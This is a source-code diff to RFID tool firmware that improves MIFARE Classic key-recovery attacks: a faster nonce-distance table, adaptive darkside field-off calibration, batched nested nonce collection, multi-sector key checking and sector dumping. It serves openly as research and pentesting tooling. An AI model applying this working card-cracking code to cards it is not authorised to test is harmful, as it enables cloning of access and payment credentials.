@@ -1,5 +1,6 @@
 #include "parity.h"
 #include "bsp_delay.h"
+#include "bsp_time.h"
 #include "hex_utils.h"
 
 #include "mf1_toolbox.h"
@@ -17,42 +18,103 @@
 // The default delay of the antenna reset
 static uint32_t g_ant_reset_delay = 100;
 
+// Adaptive darkside: shortest field-off time tried, and the checks a field-off time must pass
+#define DARKSIDE_FIELD_OFF_MIN_US       500
+#define DARKSIDE_CALIBRATE_CHECKS       3
+// Field-off time learned for the current darkside card, 0 when g_ant_reset_delay is used
+static uint32_t m_darkside_field_off_us = 0;
+
 // Label information used for global operations
 static picc_14a_tag_t m_tag_info;
 static picc_14a_tag_t *p_tag_info = &m_tag_info;
 
+// Reader session state, see mf1_toolbox_session_enable
+static struct {
+    bool enable;
+    bool selected;  // p_tag_info is the selected tag
+    bool pinned;    // p_tag_info was chosen by mf1_toolbox_session_select, only select this UID again
+    bool authed;    // Crypto1 session open with the sector/type/key below
+    uint8_t sector;
+    uint8_t type;
+    uint8_t key[6];
+} m_session;
+
+
+// PRNG index table: one checkpoint every NONCE_INDEX_STEP states of the 16 bit PRNG cycle, sorted by state.
+// A full state -> index table would take 128KB, the checkpoints bound a lookup to NONCE_INDEX_STEP PRNG steps.
+#define NONCE_INDEX_STEP        64
+#define NONCE_INDEX_SIZE        ((65535 + NONCE_INDEX_STEP - 1) / NONCE_INDEX_STEP)
+
+typedef struct {
+    uint16_t state;     // PRNG state, as it appears in the nonce
+    uint16_t index;     // position of the state in the PRNG cycle, 1 to 65535
+} nonce_index_t;
+
+static nonce_index_t m_nonce_index[NONCE_INDEX_SIZE];
+static bool m_nonce_index_ready = false;
+
+static int nonce_index_compare(const void *a, const void *b) {
+    return (int)((const nonce_index_t *)a)->state - (int)((const nonce_index_t *)b)->state;
+}
 
 /**
-* @brief    : Calculate the distance value of the random number, and calculate the multi -type table based on real -time
-*               Official comment:x,y valid tag nonces, then prng_successor(x, nonce_distance(x, y)) = y
-* @param    :msb :The random number is high, the result is completed, the pointer is completed
-* @param    :lsb :The random number is low, and the result is completed
-* @retval   : none
+* @brief    : Build the PRNG checkpoint table on first use, one walk of the PRNG cycle
 *
 */
-static void nonce_distance(uint32_t *msb, uint32_t *lsb) {
-    uint16_t x = 1, pos;
-    uint8_t calc_ok = 0;
+static void nonce_index_build(void) {
+    uint16_t x = 1;
+    uint16_t n = 0;
 
+    if (m_nonce_index_ready) {
+        return;
+    }
     for (uint16_t i = 1; i; ++i) {
-        // Calculate coordinates to obtain polynomial step operation results
-        pos = (x & 0xff) << 8 | x >> 8;
-        // To judge the coordinates, we take out the corresponding value and set the logo bit with the value of the value
-        if ((pos == *msb) & !(calc_ok >> 0 & 0x01)) {
-            *msb = i;
-            calc_ok |= 0x01;
-        }
-        if ((pos == *lsb) & !(calc_ok >> 1 & 0x01)) {
-            *lsb = i;
-            calc_ok |= 0x02;
-        }
-        // If the calculation of both values is completed, we will end the operation directly,
-        // to reduce unnecessary subsequent CPU performance loss
-        if (calc_ok == 0x03) {
-            return;
+        if ((i - 1) % NONCE_INDEX_STEP == 0) {
+            m_nonce_index[n].state = (x & 0xff) << 8 | x >> 8;
+            m_nonce_index[n].index = i;
+            n++;
         }
         x = x >> 1 | (x ^ x >> 2 ^ x >> 3 ^ x >> 5) << 15;
     }
+    qsort(m_nonce_index, NONCE_INDEX_SIZE, sizeof(nonce_index_t), nonce_index_compare);
+    m_nonce_index_ready = true;
+}
+
+/**
+* @brief    : Position of a PRNG state in the PRNG cycle: step forward until a checkpoint is met
+* @param    :pos : PRNG state, as it appears in the nonce
+* @retval   : position, 1 to 65535, or pos itself when it is not a PRNG state (0)
+*
+*/
+static uint32_t nonce_index(uint16_t pos) {
+    nonce_index_t key;
+    nonce_index_t *found;
+    uint16_t x = (pos & 0xff) << 8 | pos >> 8;
+
+    nonce_index_build();
+    for (uint16_t k = 0; k < NONCE_INDEX_STEP; k++) {
+        key.state = (x & 0xff) << 8 | x >> 8;
+        found = bsearch(&key, m_nonce_index, NONCE_INDEX_SIZE, sizeof(nonce_index_t), nonce_index_compare);
+        if (found != NULL) {
+            // k steps before the checkpoint, wrapping around the cycle
+            return found->index > k ? found->index - k : found->index - k + 65535;
+        }
+        x = x >> 1 | (x ^ x >> 2 ^ x >> 3 ^ x >> 5) << 15;
+    }
+    return pos;
+}
+
+/**
+* @brief    : Calculate the distance value of the random number, from the PRNG checkpoint table
+*               Official comment:x,y valid tag nonces, then prng_successor(x, nonce_distance(x, y)) = y
+* @param    :msb :The random number is high, the result is completed, the pointer is completed
+* @param    :lsb :The random number is low, and the result is completed
+* @retval   : none
+*
+*/
+static void nonce_distance(uint32_t *msb, uint32_t *lsb) {
+    *msb = nonce_index(*msb);
+    *lsb = nonce_index(*lsb);
 }
 
 /**
@@ -83,6 +145,20 @@ static inline void reset_radio_field_with_delay(void) {
     pcd_14a_reader_antenna_on();
 }
 
+/**
+* @brief    : Reset the field for darkside, with the learned field-off time if any
+*
+*/
+static inline void darkside_reset_field(void) {
+    if (m_darkside_field_off_us) {
+        pcd_14a_reader_antenna_off();
+        bsp_delay_us(m_darkside_field_off_us);
+        pcd_14a_reader_antenna_on();
+    } else {
+        reset_radio_field_with_delay();
+    }
+}
+
 /**
 * @brief    : Send the MiFare instruction
 * @param    :pcs     : crypto1st handle
@@ -331,16 +407,58 @@ static uint8_t darkside_select_nonces(picc_14a_tag_t *tag, uint8_t block, uint8_
     return STATUS_HF_TAG_OK;
 }
 
+/**
+* @brief    : Learn how short the field-off can be for this card: halve it as long as the card
+*               still answers the fixed NT after every reset, it means its PRNG restarted from power up.
+* @param    :tag_auth : auth command of the attack, with CRC
+* @param    :nt_fixed : NT fixed by darkside_select_nonces
+* @param    :attempts : incremented for each field reset
+* @retval   : STATUS_HF_TAG_OK, m_darkside_field_off_us holds the field-off time chosen
+*
+*/
+static uint8_t darkside_calibrate_field_off(uint8_t *tag_auth, uint32_t nt_fixed, uint32_t *attempts) {
+    uint8_t nt_resp[4];
+    uint16_t len;
+    uint32_t good_us = g_ant_reset_delay * 1000;
+
+    for (uint32_t try_us = good_us / 2; try_us >= DARKSIDE_FIELD_OFF_MIN_US; try_us /= 2) {
+        uint8_t i;
+        m_darkside_field_off_us = try_us;
+        for (i = 0; i < DARKSIDE_CALIBRATE_CHECKS; i++) {
+            bsp_wdt_feed();
+            darkside_reset_field();
+            (*attempts)++;
+            if (pcd_14a_reader_fast_select(p_tag_info) != STATUS_HF_TAG_OK) {
+                // Too short for the card to come back at all
+                break;
+            }
+            if (pcd_14a_reader_bytes_transfer(PCD_TRANSCEIVE, tag_auth, 4, nt_resp, &len, U8ARR_BIT_LEN(nt_resp)) != STATUS_HF_TAG_OK || len != 32 ||
+                    bytes_to_num(nt_resp, 4) != nt_fixed) {
+                break;
+            }
+        }
+        if (i < DARKSIDE_CALIBRATE_CHECKS) {
+            break;
+        }
+        good_us = try_us;
+    }
+    m_darkside_field_off_us = good_us;
+    NRF_LOG_INFO("Darkside field-off: %d us", good_us);
+    return STATUS_HF_TAG_OK;
+}
+
 /**
 * @brief    : Using darkside vulnerability to crack an unknown key
 * @param    :dc : DarkSide's core response
 * @param    :dp : The core parameter of darkside cracking
+* @param    :flags : DARKSIDE_FLAG_ADAPTIVE_DELAY to learn the field-off time on the first call, and lengthen it on NT loss
+* @param    :stats : Field-off time, attempts and duration of the call
 * @retval   : Collect successfully returning hf_tag_ok, verify that the corresponding abnormal code is not successfully returned
 *
 */
 uint8_t darkside_recover_key(uint8_t targetBlk, uint8_t targetTyp,
-                             uint8_t firstRecover, uint8_t ntSyncMax, DarksideCore_t *dc,
-                             mf1_darkside_status_t *darkside_status) {
+                             uint8_t firstRecover, uint8_t ntSyncMax, uint8_t flags, DarksideCore_t *dc,
+                             DarksideStats_t *stats, mf1_darkside_status_t *darkside_status) {
 
     // Card information for fixed use
     static uint32_t uid_ori                 = 0;
@@ -372,6 +490,9 @@ uint8_t darkside_recover_key(uint8_t targetBlk, uint8_t targetTyp,
     uint16_t len                            = 0x00;  // This variable is responsible for saving the data of the card in the communication process to respond to the length of the card
     uint8_t nt_diff                         = 0x00;  // This variable is critical, don't initialize it, because the following is used directly
     bool led_toggle                         = false;
+    bool adaptive                           = (flags & DARKSIDE_FLAG_ADAPTIVE_DELAY) != 0;
+    uint32_t attempts                       = 0;
+    uint32_t start_us                       = bsp_us_now();
 
     // We need to confirm the use of a certain card first
     if (pcd_14a_reader_scan_auto(p_tag_info) == STATUS_HF_TAG_OK) {
@@ -389,6 +510,10 @@ uint8_t darkside_recover_key(uint8_t targetBlk, uint8_t targetTyp,
         nrf_gpio_pin_clear(led_pins[i]);
     }
 
+    if (!adaptive) {
+        m_darkside_field_off_us = 0;
+    }
+
     // Initialize the static variable if it is the first attack
     if (firstRecover) {
         // Reset key variable
@@ -399,12 +524,19 @@ uint8_t darkside_recover_key(uint8_t targetBlk, uint8_t targetTyp,
         // For the first time, we need to use a card fixed
         uid_ori = get_u32_tag_uid(p_tag_info);
 
+        // The nonces are always fixed with the default delay, the learned time is only used by the attack
+        m_darkside_field_off_us = 0;
+
         // Then you need to fix a random number that may appear
         status = darkside_select_nonces(p_tag_info, targetBlk, targetTyp, &nt_ori, darkside_status);
         if ((status != STATUS_HF_TAG_OK) || (*darkside_status != DARKSIDE_OK)) {
             //The fixed random number failed, and the next step cannot be performed
             return status;
         }
+
+        if (adaptive) {
+            darkside_calibrate_field_off(tag_auth, nt_ori, &attempts);
+        }
     } else {
         // we were unsuccessful on a previous call.
         // Try another READER nonce (first 3 parity bits remain the same)
@@ -434,7 +566,8 @@ uint8_t darkside_recover_key(uint8_t targetBlk, uint8_t targetTyp,
         //When the antenna is reset, we must make sure
         // 1. The antenna is powered off for a long time to ensure that the card is completely powered off, otherwise the pseudo -random number generator of the card cannot be reset
         // 2. Moderate power -off time, don't be too long, it will affect efficiency, and don't be too short.
-        reset_radio_field_with_delay();
+        darkside_reset_field();
+        attempts++;
 
         //After the power is completely disconnected, we will select the card quickly and compress the verification time as much as possible.
         if (pcd_14a_reader_fast_select(p_tag_info) != STATUS_HF_TAG_OK) {
@@ -465,6 +598,14 @@ uint8_t darkside_recover_key(uint8_t targetBlk, uint8_t targetTyp,
                 return STATUS_HF_TAG_OK;
             }
 
+            // The learned field-off time may be too short for this card after all, back off towards the default
+            if (adaptive && m_darkside_field_off_us && m_darkside_field_off_us < g_ant_reset_delay * 1000) {
+                m_darkside_field_off_us *= 2;
+                if (m_darkside_field_off_us > g_ant_reset_delay * 1000) {
+                    m_darkside_field_off_us = g_ant_reset_delay * 1000;
+                }
+            }
+
             // When the clock is not synchronized, the following operation is meaningless
             // So directly skip the following operations, enter the next round of cycle,
             // God bless the next cycle to synchronize the clock.EssenceEssence
@@ -553,6 +694,10 @@ uint8_t darkside_recover_key(uint8_t targetBlk, uint8_t targetTyp,
     memcpy(dc->nr, mf_nr_ar, sizeof(dc->nr));
     memcpy(dc->ar, mf_nr_ar + 4, sizeof(dc->ar));
 
+    num_to_bytes(m_darkside_field_off_us ? m_darkside_field_off_us : g_ant_reset_delay * 1000, 4, stats->field_off_us);
+    num_to_bytes(attempts, 4, stats->attempts);
+    num_to_bytes((bsp_us_now() - start_us) / 1000, 4, stats->elapsed_ms);
+
     // NRF_LOG_INFO("Darkside done!\n");
     *darkside_status = DARKSIDE_OK;
     return STATUS_HF_TAG_OK;
@@ -732,36 +877,44 @@ static uint32_t measure_nonces(uint32_t from, uint32_t to) {
 }
 
 /**
-* @brief    : Intermediate value measurement
+* @brief    : Intermediate value measurement, quickselect: linear time on average, src is reordered
 * @param    :src    :Measurement source
 * @param    :length :The number of measurement sources
 * @retval   : Median
 *
 */
 uint32_t measure_median(uint32_t *src, uint32_t length) {
-    uint32_t len = length;
-    uint32_t minIndex;
-    uint32_t temp, i;
-
-    if (length == 1) {
-        return src[0];
-    }
-
-    for (i = 0; i < len; i++) {
-        //i is the end of the sequence that has been arranged
-        minIndex = i;
-        for (int j = i + 1; j < len; j++) {
-            if (src[j] < src[minIndex]) {
-                minIndex = j;
+    uint32_t k = (length - 1) / 2;
+    uint32_t left = 0, right = length - 1;
+    uint32_t pivot, temp, store;
+
+    while (left < right) {
+        // Middle element as pivot, moved to the end while partitioning
+        temp = src[(left + right) / 2];
+        src[(left + right) / 2] = src[right];
+        src[right] = temp;
+        pivot = temp;
+        store = left;
+        for (uint32_t i = left; i < right; i++) {
+            if (src[i] < pivot) {
+                temp = src[i];
+                src[i] = src[store];
+                src[store] = temp;
+                store++;
             }
         }
-        if (minIndex != i) {
-            temp = src[i];
-            src[i] = src[minIndex];
-            src[minIndex] = temp;
+        src[right] = src[store];
+        src[store] = pivot;
+        // Keep only the side that holds the k-th value
+        if (store == k) {
+            break;
+        } else if (store < k) {
+            left = store + 1;
+        } else {
+            right = store - 1;
         }
     }
-    return src[length / 2 - 1];
+    return src[k];
 }
 
 /**
@@ -899,6 +1052,60 @@ uint8_t nested_recover_key(uint64_t keyKnown, uint8_t blkKnown, uint8_t typKnown
     return STATUS_HF_TAG_OK;
 }
 
+/**
+* @brief    : Batched NESTED collection: the tag is found and the distance measured once,
+*               then set_count sets are collected against the trailer of every target sector.
+*               Stops at the first sector whose sets do not all fit in ncs.
+* @param    :keyKnown     : The U64 value of the known secret key of the card
+* @param    :blkKnown     : The owner of the known secret key of the card
+* @param    :typKnown     : Types of the known secret key of the card, 0x60 (A secret) or 0x61 (B secret)
+* @param    :sector_start : First target sector
+* @param    :sector_count : Number of target sectors
+* @param    :targetType   : The target key type, 0x60 (A secret) or 0x61 (B secret)
+* @param    :set_count    : Sets to collect per sector
+* @param    :uid          : Receives the 4 byte UID
+* @param    :distance     : Receives the nonce distance
+* @param    :ncs          : Receives the sets, sector after sector
+* @param    :ncs_max      : Size of ncs
+* @param    :sector_done  : Number of sectors collected
+* @retval   : STATUS_HF_TAG_OK when at least one sector was collected, else the error code
+*
+*/
+uint8_t nested_recover_sectors(uint64_t keyKnown, uint8_t blkKnown, uint8_t typKnown,
+                               uint8_t sector_start, uint8_t sector_count, uint8_t targetType, uint8_t set_count,
+                               uint8_t *uid, uint32_t *distance, mf1_nested_core_t *ncs, uint16_t ncs_max, uint8_t *sector_done) {
+    uint8_t res;
+    uint16_t n = 0;
+
+    *sector_done = 0;
+    res = pcd_14a_reader_scan_auto(p_tag_info);
+    if (res != STATUS_HF_TAG_OK) {
+        return res;
+    }
+    get_4byte_tag_uid(p_tag_info, uid);
+    res = measure_distance(keyKnown, blkKnown, typKnown, distance);
+    if (res != STATUS_HF_TAG_OK) {
+        return res;
+    }
+
+    for (uint8_t sector = sector_start; *sector_done < sector_count && sector < MF1_SECTOR_MAX; sector++) {
+        if (n + set_count > ncs_max) {
+            break;
+        }
+        uint8_t targetBlock = mf1_sector_trailer_block(sector);
+        for (uint8_t m = 0; m < set_count; m++) {
+            res = nested_recover_core(&ncs[n + m], keyKnown, blkKnown, typKnown, targetBlock, targetType);
+            if (res != STATUS_HF_TAG_OK) {
+                // Keep what the previous sectors collected
+                return *sector_done ? STATUS_HF_TAG_OK : res;
+            }
+        }
+        n += set_count;
+        (*sector_done)++;
+    }
+    return STATUS_HF_TAG_OK;
+}
+
 /**
 * @brief    : NestedFollow detection implementation
 * @param    :block   :The owner of the known secret key of the card
@@ -1000,16 +1207,291 @@ uint8_t static_nested_recover_key(uint64_t keyKnown, uint8_t blkKnown, uint8_t t
     return STATUS_HF_TAG_OK;
 }
 
+/**
+* @brief    : Get the first block of a sector, 1K/2K/4K layout
+* @param    :sector : Sector number, 0 to MF1_SECTOR_MAX - 1
+* @retval   : Block number of the first block of the sector
+*
+*/
+uint8_t mf1_sector_first_block(uint8_t sector) {
+    if (sector < 32) {
+        return sector * 4;
+    }
+    return 128 + (sector - 32) * 16;
+}
+
+/**
+* @brief    : Get the number of blocks of a sector, 4 for the first 32 sectors and 16 after them
+*
+*/
+uint8_t mf1_sector_block_count(uint8_t sector) {
+    return sector < 32 ? 4 : 16;
+}
+
+/**
+* @brief    : Get the trailer block of a sector, 1K/2K/4K layout
+* @param    :sector : Sector number, 0 to MF1_SECTOR_MAX - 1
+* @retval   : Block number of the sector trailer
+*
+*/
+uint8_t mf1_sector_trailer_block(uint8_t sector) {
+    return mf1_sector_first_block(sector) + mf1_sector_block_count(sector) - 1;
+}
+
+/**
+* @brief    : Select the tag the session works on: the pinned tag if any, else the first tag found
+* @retval   : STATUS_HF_TAG_OK when the tag is selected
+*
+*/
+static uint8_t mf1_toolbox_select(void) {
+    if (m_session.pinned) {
+        return pcd_14a_reader_fast_select(p_tag_info);
+    }
+    return pcd_14a_reader_scan_auto(p_tag_info);
+}
+
+/**
+* @brief    : Select the tag again, to leave the current Crypto1 session or an error state.
+*               A tag that failed a command is back to idle already, the WUPA of the fast select wakes it,
+*               only a tag still in a session is halted, without waiting for the answer it never sends.
+* @param    :halt : true when the tag is still in a session
+* @retval   : STATUS_HF_TAG_OK when the tag is selected again
+*
+*/
+static uint8_t mf1_toolbox_reselect(bool halt) {
+    pcd_14a_reader_mf1_unauth();
+    if (halt) {
+        pcd_14a_reader_fast_halt_tag();
+    }
+    if (pcd_14a_reader_fast_select(p_tag_info) != STATUS_HF_TAG_OK) {
+        // A pinned tag must not be swapped for another one of the field
+        return m_session.pinned ? STATUS_HF_TAG_NO : pcd_14a_reader_scan_auto(p_tag_info);
+    }
+    return STATUS_HF_TAG_OK;
+}
+
+/**
+* @brief    : Enable or disable the reader session.
+*               In a session the selected tag and its last authentication are kept between commands,
+*               so single block commands on the same sector skip the anticollision and the auth.
+* @param    :enable : true when the field is kept on between commands
+*
+*/
+void mf1_toolbox_session_enable(bool enable) {
+    mf1_toolbox_session_reset();
+    m_session.pinned = false;
+    m_session.enable = enable;
+}
+
+/**
+* @brief    : Select the tag with the given UID among the tags of the field.
+*               In a session the tag stays the target of the following commands until the session ends.
+* @param    :uid : UID of 4, 7 or 10 bytes
+* @param    :uid_len : length of uid
+* @param    :sak : receives the final SAK of the tag
+* @retval   : STATUS_HF_TAG_OK when the tag answered the selection
+*
+*/
+uint8_t mf1_toolbox_session_select(uint8_t *uid, uint8_t uid_len, uint8_t *sak) {
+    mf1_toolbox_session_reset();
+    m_session.pinned = false;
+    memset(p_tag_info, 0, sizeof(picc_14a_tag_t));
+    memcpy(p_tag_info->uid, uid, uid_len);
+    p_tag_info->uid_len = uid_len;
+    p_tag_info->cascade = uid_len == 4 ? 1 : (uid_len == 7 ? 2 : 3);
+    if (pcd_14a_reader_fast_select(p_tag_info) != STATUS_HF_TAG_OK) {
+        return STATUS_HF_TAG_NO;
+    }
+    *sak = p_tag_info->sak;
+    m_session.selected = true;
+    m_session.pinned = m_session.enable;
+    return STATUS_HF_TAG_OK;
+}
+
+/**
+* @brief    : Forget the selected tag and the last authentication of the session,
+*               the next command selects the tag again. Call it when the tag state is unknown.
+*               A tag pinned by mf1_toolbox_session_select stays pinned.
+*
+*/
+void mf1_toolbox_session_reset(void) {
+    if (m_session.authed) {
+        pcd_14a_reader_mf1_unauth();
+    }
+    m_session.selected = false;
+    m_session.authed = false;
+}
+
 /**
 * @brief    : Use the RC522 M1 algorithm module to verify the key
 * @retval   : validationResults
 *
 */
 uint8_t auth_key_use_522_hw(uint8_t block, uint8_t type, uint8_t *key) {
-    // Each verification of a block must re -find a card
-    if (pcd_14a_reader_scan_auto(p_tag_info) != STATUS_HF_TAG_OK) {
+    uint8_t status;
+
+    if (!m_session.enable) {
+        // Each verification of a block must re -find a card
+        if (pcd_14a_reader_scan_auto(p_tag_info) != STATUS_HF_TAG_OK) {
+            return STATUS_HF_TAG_NO;
+        }
+        // After finding the card, we start to verify!
+        return pcd_14a_reader_mf1_auth(p_tag_info, type, block, key);
+    }
+
+    uint8_t sector = block < 128 ? block / 4 : 32 + (block - 128) / 16;
+    if (m_session.authed) {
+        // Same sector with the same key, the Crypto1 session is still valid
+        if (m_session.sector == sector && m_session.type == type && memcmp(m_session.key, key, sizeof(m_session.key)) == 0) {
+            return STATUS_HF_TAG_OK;
+        }
+        m_session.authed = false;
+        m_session.selected = mf1_toolbox_reselect(true) == STATUS_HF_TAG_OK;
+    } else if (!m_session.selected) {
+        m_session.selected = mf1_toolbox_select() == STATUS_HF_TAG_OK;
+    }
+    if (!m_session.selected) {
         return STATUS_HF_TAG_NO;
     }
-    // After finding the card, we start to verify!
-    return pcd_14a_reader_mf1_auth(p_tag_info, type, block, key);
+
+    status = pcd_14a_reader_mf1_auth(p_tag_info, type, block, key);
+    if (status != STATUS_HF_TAG_OK) {
+        // A failed auth sends the tag back to idle
+        mf1_toolbox_session_reset();
+        return status;
+    }
+    m_session.authed = true;
+    m_session.sector = sector;
+    m_session.type = type;
+    memcpy(m_session.key, key, sizeof(m_session.key));
+    return STATUS_HF_TAG_OK;
+}
+
+/**
+* @brief    : Check a list of keys against several sectors in one go.
+*               The card is selected once, then every attempt only costs a fast select, and a halt after a found key,
+*               instead of the reader reset, field restart and full anticollision of each single auth command.
+* @param    :in          : Sector mask and the keys to try
+* @param    :out         : Found bits, same layout as the mask, and the found keys in the same order
+* @param    :found_count : Number of keys written to out->keys
+* @retval   : STATUS_HF_TAG_OK when all requested sectors were checked, else the error code
+*
+*/
+uint8_t mf1_toolbox_check_keys_of_sectors(mf1_toolbox_check_keys_of_sectors_in_t *in, mf1_toolbox_check_keys_of_sectors_out_t *out, uint8_t *found_count) {
+    uint8_t status;
+
+    memset(out->found, 0, sizeof(out->found));
+    *found_count = 0;
+
+    if (mf1_toolbox_select() != STATUS_HF_TAG_OK) {
+        return STATUS_HF_TAG_NO;
+    }
+
+    for (uint8_t i = 0; i < MF1_SECTOR_MAX * 2; i++) {
+        uint8_t bit = 0x80 >> (i % 8);
+        if (!(in->mask[i / 8] & bit)) {
+            continue;
+        }
+        uint8_t block = mf1_sector_trailer_block(i / 2);
+        uint8_t type = (i & 1) ? PICC_AUTHENT1B : PICC_AUTHENT1A;
+        for (uint8_t k = 0; k < in->keys_len; k++) {
+            bsp_wdt_feed();
+            status = pcd_14a_reader_mf1_auth(p_tag_info, type, block, in->keys[k]);
+            // A failed auth leaves the tag idle and a good one leaves Crypto1 running,
+            // both ways the tag must be selected again before the next attempt
+            if (mf1_toolbox_reselect(status == STATUS_HF_TAG_OK) != STATUS_HF_TAG_OK) {
+                return STATUS_HF_TAG_NO;
+            }
+            if (status == STATUS_HF_TAG_OK) {
+                out->found[i / 8] |= bit;
+                memcpy(out->keys[(*found_count)++], in->keys[k], 6);
+                break;
+            }
+        }
+    }
+    return STATUS_HF_TAG_OK;
+}
+
+/**
+* @brief    : Read whole sectors, one authentication per sector.
+*               All blocks of a sector are read in the Crypto1 session of its authentication,
+*               the tag is only selected again after a sector or after a block that can't be read.
+*               Sectors are read as long as their worst case result fits in out_max.
+* @param    :sector_start : First sector to read
+* @param    :sector_count : Number of entries of keys, one per sector from sector_start
+* @param    :keys         : Key type and key of each sector, a key type other than 0x60/0x61 skips the sector
+* @param    :out          : Per sector: status, then on auth success read_mask[2] (bit n for block n, LSB first)
+*                             and the data of all blocks, zeros for the blocks that can't be read
+* @param    :out_max      : Size of out
+* @param    :out_len      : Bytes written to out
+* @param    :sector_done  : Number of sectors written to out
+* @retval   : STATUS_HF_TAG_OK, or STATUS_HF_TAG_NO when the tag is lost
+*
+*/
+uint8_t mf1_toolbox_read_sectors(uint8_t sector_start, uint8_t sector_count, mf1_sector_key_t *keys,
+                                 uint8_t *out, uint16_t out_max, uint16_t *out_len, uint8_t *sector_done) {
+    uint8_t status;
+
+    *out_len = 0;
+    *sector_done = 0;
+
+    if (mf1_toolbox_select() != STATUS_HF_TAG_OK) {
+        return STATUS_HF_TAG_NO;
+    }
+
+    for (uint8_t i = 0; i < sector_count && sector_start + i < MF1_SECTOR_MAX; i++) {
+        uint8_t sector = sector_start + i;
+        uint8_t first = mf1_sector_first_block(sector);
+        uint8_t blocks = mf1_sector_block_count(sector);
+        uint8_t *p = out + *out_len;
+
+        if (*out_len + 3 + blocks * MF1_BLOCK_SIZE > out_max) {
+            break;
+        }
+        bsp_wdt_feed();
+
+        if (keys[i].type != PICC_AUTHENT1A && keys[i].type != PICC_AUTHENT1B) {
+            p[0] = STATUS_PAR_ERR;
+            *out_len += 1;
+            (*sector_done)++;
+            continue;
+        }
+        status = pcd_14a_reader_mf1_auth(p_tag_info, keys[i].type, first + blocks - 1, keys[i].key);
+        if (status != STATUS_HF_TAG_OK) {
+            p[0] = status;
+            *out_len += 1;
+            (*sector_done)++;
+            if (mf1_toolbox_reselect(false) != STATUS_HF_TAG_OK) {
+                return STATUS_HF_TAG_NO;
+            }
+            continue;
+        }
+
+        uint16_t read_mask = 0;
+        uint8_t *data = p + 3;
+        memset(data, 0, blocks * MF1_BLOCK_SIZE);
+        for (uint8_t b = 0; b < blocks; b++) {
+            if (pcd_14a_reader_mf1_read(first + b, data + b * MF1_BLOCK_SIZE) == STATUS_HF_TAG_OK) {
+                read_mask |= 1 << b;
+                continue;
+            }
+            // The access conditions may deny this block only, the tag dropped the session
+            memset(data + b * MF1_BLOCK_SIZE, 0, MF1_BLOCK_SIZE);
+            if (mf1_toolbox_reselect(false) != STATUS_HF_TAG_OK) {
+                return STATUS_HF_TAG_NO;
+            }
+            if (pcd_14a_reader_mf1_auth(p_tag_info, keys[i].type, first + blocks - 1, keys[i].key) != STATUS_HF_TAG_OK) {
+                break;
+            }
+        }
+        p[0] = STATUS_HF_TAG_OK;
+        p[1] = read_mask & 0xFF;
+        p[2] = read_mask >> 8;
+        *out_len += 3 + blocks * MF1_BLOCK_SIZE;
+        (*sector_done)++;
+        if (mf1_toolbox_reselect(true) != STATUS_HF_TAG_OK) {
+            return STATUS_HF_TAG_NO;
+        }
+    }
+    return STATUS_HF_TAG_OK;
 }